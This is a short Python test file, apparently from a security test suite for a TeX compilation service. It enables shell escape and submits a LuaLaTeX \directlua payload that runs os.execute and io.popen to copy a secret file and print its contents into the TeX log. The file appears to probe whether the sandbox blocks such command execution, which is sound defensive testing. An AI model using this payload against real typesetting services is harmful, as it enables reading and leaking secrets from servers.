"""Runs programs by Lua."""
# expect: completed
# prepare: files
# job: timeout_s=38
import os

from attack import *


class Attack(Trial):
    def attack(self):
        os.environ.update(shell_escape="t")
        typeset(r"\directlua{os.execute('cat %s > stolen') local p = io.popen('cat %s') if p then texio.write_nl(p:read('a')) end}" % (TARGETS["secret"], TARGETS["secret"]), "lualatex")
        look("what TeX wrote", typeset_contents())
